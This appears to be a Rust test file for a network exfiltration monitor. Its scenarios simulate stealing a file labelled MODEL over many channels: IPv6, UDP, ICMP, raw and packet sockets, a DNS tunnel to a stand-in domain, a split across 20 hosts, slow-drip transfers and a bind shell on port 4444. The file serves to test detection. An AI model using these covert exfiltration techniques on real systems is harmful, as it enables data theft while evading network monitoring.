//! Ways out: every transport and socket, and every way to make it look little.

use super::{Outcome, outside, theft, theft_checked};
use std::net::Ipv4Addr;
use tests::board::{MODEL, Played, Scenario, Skip, Stage};

pub const SCENARIOS: &[Scenario] = &[
    Scenario::new("tcp_over_ipv6", "TCP, IPv6", |stage| over_ipv6(stage, "tcp")),
    Scenario::new("udp", "UDP", |stage| theft(stage, &["none", "--over", "udp"])),
    Scenario::new("udp_443_over_ipv6", "UDP 443, IPv6", |stage| over_ipv6(stage, "udp")),
    Scenario::new("udp_unconnected", "UDP, the destination at each datagram", |stage| {
        theft(stage, &["none", "--over", "udp-unconnected"])
    }),
    Scenario::new("tcp_fast_open", "TCP without connect", |stage| theft(stage, &["none", "--over", "fast-open"])),
    Scenario::new("multipath_tcp", "multipath TCP", |stage| theft(stage, &["none", "--over", "mptcp"])),
    Scenario::new("icmp_without_privilege", "ICMP echo by a datagram socket, a fifth of it", ping),
    Scenario::new("icmp", "ICMP echo, a fifth of it", |stage| without_port(stage, "icmp")),
    Scenario::new("raw_ip", "raw IP, a fifth of it", |stage| without_port(stage, "raw")),
    Scenario::new("packet_socket", "packet socket, uncounted", |stage| {
        // Nobody counts what such a socket sends, nor where to: that it was made by who holds something is to be told.
        theft_checked(stage, &["none", "--over", "packet", "--limit", "1048576"], |expected| {
            (expected.destinations, expected.bytes) = (Vec::new(), Vec::new());
        })
    }),
    Scenario::new("dns_tunnel", "DNS questions, 128 KiB", dns),
    Scenario::new("split_over_20_destinations", "20 destinations", split),
    Scenario::new("slow_drip", "120 connections of 1 KiB, 2.4 %", |stage| {
        theft(stage, &["none", "--over", "drip", "--drip", "120", "1024", "80", "--limit", "122880"])
    }),
    Scenario::new("small_parts", "40 connections of 64 KiB", small_parts),
    Scenario::new("bind_shell", "over an accepted connection", accepted),
];

fn over_ipv6(stage: &mut Stage, transport: &str) -> Outcome {
    if let Some(why) = &stage.network.no_ipv6 {
        return Err(Skip(why.clone()).into());
    }
    let to = format!("[{}]:{}", tests::scene::Network::OUTSIDE_V6, Stage::PORT);
    theft(stage, &["none", "--over", transport, "--to", &to])
}

fn without_port(stage: &mut Stage, over: &str) -> Outcome {
    theft_checked(stage, &["none", "--over", over, "--limit", "1048576"], |expected| {
        expected.destinations.iter_mut().for_each(|to| to.set_port(0));
    })
}

fn ping(stage: &mut Stage) -> Outcome {
    // As containerd sets it for containers.
    let file = "/proc/sys/net/ipv4/ping_group_range";
    stage.network.inside.enter(|| std::fs::write(file, "0 2147483647"))??;
    without_port(stage, "ping")
}

fn dns(stage: &mut Stage) -> Outcome {
    let world = stage.world(&[])?;
    let to = format!("{}:53", Stage::OUTSIDE);
    let deed = ["theft", "none", "--over", "dns", "--limit", "131072", "--name", "t.cdn-stats.com", "--read", MODEL];
    let lines = stage.act(&[&deed[..], &["--to", &to]].concat())?;
    let mut expected = stage.truth_of(&lines, None, world, false)?;
    let names: u64 = lines.iter().filter_map(|line| line["name_bytes"].as_u64()).sum();
    expected.bytes.insert(0, ("weir.dns.query_bytes", names));
    Ok(Played::Attack(expected))
}

fn split(stage: &mut Stage) -> Outcome {
    let hosts: Vec<Ipv4Addr> = (0..20).map(|number| Ipv4Addr::new(203, 0, 113, 100 + number)).collect();
    let world = stage.world(&hosts)?;
    let to: Vec<String> = hosts.iter().map(|host| format!("{host}:{}", Stage::PORT)).collect();
    let mut deed = vec!["theft", "none", "--over", "split", "--read", MODEL];
    deed.extend(to.iter().flat_map(|to| ["--to", to]));
    let lines = stage.act(&deed)?;
    Ok(Played::Attack(stage.truth_of(&lines, None, world, true)?))
}

fn small_parts(stage: &mut Stage) -> Outcome {
    theft(stage, &["none", "--over", "drip", "--drip", "40", "65536", "10", "--limit", "2621440", "--to", &outside()])
}

fn accepted(stage: &mut Stage) -> Outcome {
    let at = format!("{}:4444", tests::scene::Network::INSIDE_V4);
    let thief = stage.begin(&["theft", "none", "--over", "accepted", "--read", MODEL, "--to", &at])?;
    let came = stage.fetch(&at, b"")?;
    let lines = stage.lines_of(thief)?;
    let mut expected = tests::board::Expected::of(&lines, &[&stage.container.id])?;
    stage.check(&expected, &lines, came)?;
    expected.bytes.insert(0, ("weir.exfil.accepted_bytes", came.0));
    Ok(Played::Attack(expected))
}
